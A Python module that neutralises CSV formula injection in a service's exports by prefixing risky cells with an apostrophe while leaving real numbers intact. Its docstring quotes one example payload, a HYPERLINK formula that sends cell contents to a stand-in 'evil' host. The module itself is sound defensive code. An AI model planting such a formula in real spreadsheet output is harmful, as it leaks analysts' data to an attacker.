"""Cells of the CSV files the service writes, safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and some
also one that starts with a tab or a carriage return (OWASP "CSV injection"). The values come
from tenants' uploads (a customer id such as ``=HYPERLINK("http://evil/?"&A1)``), and the
file is opened by the tenant's analysts: such a cell gets a leading ``'``, which spreadsheets
show as text and do not run. Genuine numbers are left alone: a negative score must stay a
number. Every CSV writer of the service passes its cells through here.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain decimal number as a spreadsheet reads one; "-inf", "-nan", "-1,5" or digits of other
# scripts (Arabic-Indic, which Python's float() accepts) are not.
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def safe_cell(value: object) -> object:
    """``value`` as is, or prefixed with ``'`` when it is text a spreadsheet would run.

    Values that are not text (numbers, None) are written as the csv module writes them.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in row]
